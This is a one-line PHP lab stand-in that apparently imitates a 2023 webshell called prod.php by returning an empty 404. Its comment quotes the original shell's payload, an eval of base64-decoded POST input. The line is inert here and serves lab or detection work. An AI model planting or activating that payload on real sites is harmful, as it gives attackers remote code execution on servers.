<?php http_response_code(404); /* edgewatch lab stand-in for the 2023 v2 webshell prod.php: empty 404 without Content-Length; inert, the rest is quoted: @eval(base64_decode($_POST['c'])); */ ?>
